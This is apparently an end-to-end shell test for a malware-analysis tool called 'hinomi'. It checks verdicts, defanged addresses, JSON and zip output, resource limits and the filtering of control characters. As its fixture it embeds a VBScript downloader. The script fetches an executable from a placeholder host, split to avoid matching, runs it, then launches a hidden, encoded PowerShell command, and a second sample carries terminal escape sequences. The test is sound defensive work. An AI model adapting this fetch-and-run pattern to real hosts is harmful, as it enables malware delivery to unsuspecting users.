# Proves that `hinomi analyze` judges one sample and many, tells people and programs in both
# languages, writes what is asked for and nothing else, and passes nothing harmful on. The samples
# are inert: their hosts do not exist.
. tests/e2e/lib.sh

cat >"$tmp/fetch.vbs" <<'SAMPLE'
u = "http://files.exa" & "mple/a.exe"
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", u, False
h.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write h.responseBody
s.SaveToFile "C:\Users\Public\a.exe", 2
CreateObject("WScript.Shell").Run "C:\Users\Public\a.exe"
CreateObject("WScript.Shell").Run "powershell -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAAgACcAaABpACcA"
SAMPLE
printf 'nothing to see\n' >"$tmp/note.txt"

code "one sample" 0 "$HINOMI" analyze --reserved "$tmp/fetch.vbs"
says "the verdict" "$tmp/out" 'fetch.vbs: malicious'
says "a reason" "$tmp/out" 'Script Would Fetch a File and Run It'
says "the address, defanged" "$tmp/out" 'hxxp://files[.]example/a.exe'
! grep -q 'http://files.example' "$tmp/out" || fail "an address came through as it is"
code "in Japanese" 0 "$HINOMI" analyze --lang ja --reserved "$tmp/fetch.vbs"
says "the verdict" "$tmp/out" '悪性'
says "a heading" "$tmp/out" '遮断する宛先'
code "no defang" 0 "$HINOMI" analyze --reserved --no-defang "$tmp/fetch.vbs"
says "as it is" "$tmp/out" 'http://files.example/a.exe'

code "many" 0 "$HINOMI" analyze -j 2 "$tmp/fetch.vbs" "$tmp/note.txt"
grep -q '^clean .*note.txt' "$tmp/out" || fail "no line for the clean one"
code "fail-on, reached" 1 "$HINOMI" analyze -q --fail-on malicious "$tmp/fetch.vbs"
code "fail-on, not reached" 0 "$HINOMI" analyze -q --fail-on unknown "$tmp/note.txt"
code "one that cannot be read" 5 "$HINOMI" analyze -q "$tmp/note.txt" "$tmp/none"
"$HINOMI" analyze - <"$tmp/fetch.vbs" >"$tmp/out" || fail "standard input"

mkdir "$tmp/samples"
cp "$tmp/fetch.vbs" "$tmp/note.txt" "$tmp/samples"
code "JSON of a folder" 0 "$HINOMI" analyze -q --json "$tmp/all.jsonl" --extract "$tmp/out.d" "$tmp/samples"
[ "$(wc -l <"$tmp/all.jsonl")" = 2 ] || fail "not one line a sample"
python3 - "$tmp/all.jsonl" <<'CHECK' || fail "the JSON is not as documented"
import json, sys
docs = {d["file"]: d for d in map(json.loads, open(sys.argv[1]))}
bad = docs["fetch.vbs"]
assert bad["verdict"] == "malicious" and docs["note.txt"]["verdict"] == "clean"
assert any(h["level"] == "high" and h["places"][0]["matches"] for h in bad["hits"])
url = [i for i in bad["indicators"] if i["value"] == "http://files.example/a.exe"]
assert url and url[0]["role"] == "download" and url[0]["path"]
assert any(o["format"] == "powershell" and "Write-Host" in o["script"] for o in bad["objects"])
CHECK
code "children as a zip" 0 "$HINOMI" analyze -q --extract-zip "$tmp/out.zip" "$tmp/samples" "$tmp/samples/fetch.vbs"
[ "$(stat -c %a "$tmp/out.zip")" = 600 ] || fail "others may read the zip"
python3 - "$tmp/out.zip" "$tmp/out.d" <<'CHECK' || fail "the zip does not hold what --extract writes"
import hashlib, os, sys, zipfile
zip = zipfile.ZipFile(sys.argv[1])
assert sorted(zip.namelist()) == sorted(os.listdir(sys.argv[2])) != []
for name in zip.namelist():
    assert hashlib.sha256(zip.read(name, b"infected")).hexdigest() == name
CHECK
code "no place for the zip" 4 "$HINOMI" analyze -q --extract-zip "$tmp/none/out.zip" "$tmp/samples"
for file in "$tmp"/out.d/*; do
    [ "$(stat -c %a "$file")" = 600 ] || fail "$file: its mode"
    [ "$(sha256sum <"$file" | cut -c1-64)" = "$(basename "$file")" ] || fail "$file: its name"
done

code "limits are listed" 0 "$HINOMI" analyze --limit 'x=?'
says "a limit" "$tmp/out" 'wall_ms '
code "a limit that does not exist" 3 "$HINOMI" analyze --limit none=1 "$tmp/note.txt"
code "a limit without a number" 3 "$HINOMI" analyze --limit wall_ms "$tmp/note.txt"
code "a limit that is reached" 0 "$HINOMI" analyze --limit objects_max=1 "$tmp/fetch.vbs"
says "its name" "$tmp/out" 'objects_max'
code "no sample" 3 "$HINOMI" analyze

printf 'MsgBox "\033[31m"\nCreateObject("WScript.Shell").Run "calc \302\233\342\200\256"\n' >"$tmp/odd.vbs"
cp "$tmp/odd.vbs" "$tmp/$(printf 'a\033[31mb\342\200\256.vbs')"
code "control characters" 0 "$HINOMI" analyze --details "$tmp"/*.vbs
! grep -q "$(printf '\033\|\302\233\|\342\200\256')" "$tmp/out" || fail "a control character came through"
end
